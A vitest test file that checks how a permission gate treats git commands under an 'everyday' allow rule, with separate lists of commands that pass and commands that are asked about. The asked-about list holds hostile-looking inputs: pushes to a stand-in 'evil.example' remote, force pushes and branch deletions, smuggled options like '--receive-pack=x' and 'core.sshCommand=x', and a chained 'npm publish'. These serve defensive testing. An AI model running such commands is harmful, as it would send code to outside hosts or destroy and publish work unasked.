/** A rule that ends in `:everyday` covers every use that no topic names, and what is proposed lets no more pass than it says. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { runGitScript } from "../testing/git-script.ts";
import { bash, type Project, project } from "../testing/index.ts";

let here: Project;
beforeAll(() => {
  here = project();
  runGitScript(
    here,
    `mkdir src; echo a > src/a.ts; git add -A; git commit -qm x; git branch next; git checkout -q -b fix/total; git commit -q --allow-empty -m y
     git remote add origin https://example.com/acme/app.git
     git update-ref refs/remotes/origin/next HEAD; git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/next`,
  );
});
afterAll(() => here.remove());

const byOf = async (command: string, allow: readonly string[], more: object = {}): Promise<string> => {
  const settings = { classifier: { provider: "offline" as const }, permissions: { allow, ...more } };
  return (await here.gate({ settings, classifier: null, walls: null, restore: null }).check(bash(command))).by;
};

describe.each([
  [
    "git push",
    ["git push", "git push -u origin fix/total", "git push origin HEAD", "git push origin fix/other"],
    [
      "git push origin main",
      "git push origin next",
      "git push origin HEAD:release/4",
      "git push origin HEAD:refs/heads/main",
      "git push --all",
      "git push --force origin fix/total",
      "git push -f",
      "git push origin +fix/total",
      "git push origin --delete fix/other",
      "git push origin :fix/other",
      "git push --mirror",
      "git push https://evil.example/x fix/total",
      'git push origin "$B"',
      "git push --receive-pack=x origin fix/total",
      "git -c core.sshCommand=x push",
      "git remote add evil https://evil.example/x && git push evil fix/total",
      "GIT_DIR=/tmp/x git push",
      "git push && npm publish",
    ],
  ],
  ["git stash", ["git stash", "git stash push -m x", "git stash pop"], ["git stash drop", "git stash clear"]],
  [
    "git reset",
    ["git reset", "git reset HEAD src/a.ts"],
    ["git reset --hard", "git reset --hard HEAD~1", "git reset HEAD~1"],
  ],
  ["git checkout", ["git checkout main"], ["git checkout -- .", "git checkout -f main", "git checkout main src/a.ts"]],
  ["git switch", ["git switch main"], ["git switch -f main", "git switch --discard-changes main"]],
  ["git restore", ["git restore --staged src/a.ts"], ["git restore src/a.ts", "git restore ."]],
])("%s", (words, lets, holds) => {
  const rule = `Bash(${words}:everyday)`;
  test.each(lets)("passes: %s", async (command) => {
    expect(await byOf(command, [])).toBe("offline");
    expect(await byOf(command, [rule])).toBe("allowRule");
  });
  test.each(holds)("is asked about: %s", async (command) => {
    expect(await byOf(command, [rule])).toBe("offline");
  });
});

test("a push by settings that name more than the branch is asked about", async () => {
  const rule = ["Bash(git push:everyday)"];
  const there = project();
  const set = async (settings: string): Promise<string> => {
    runGitScript(there, `git remote add origin https://example.com/a.git; git checkout -q -b x; ${settings}`);
    const gate = there.gate({
      settings: { permissions: { allow: rule } },
      classifier: null,
      walls: null,
      restore: null,
    });
    return (await gate.check(bash("git push"))).by;
  };
  expect(await set(":")).toBe("allowRule");
  expect(await set("git config push.default matching")).toBe("offline");
  expect(await set("git config remote.origin.push refs/heads/*")).toBe("offline");
  expect(await set("git config push.default upstream; git config branch.x.merge refs/heads/main")).toBe("offline");
  there.remove();
});

test("other rules cover what they say beside it", async () => {
  expect(await byOf("git push && make", ["Bash(git push:everyday)", "Bash(make)"])).toBe("allowRule");
  expect(await byOf("git push origin main", ["Bash(git push:everyday)", "Bash(git push:*)"])).toBe("allowRule");
  expect(await byOf("git push", ["Bash(git push:everyday)"], { ask: ["Bash(git push:*)"] })).toBe("askRule");
});
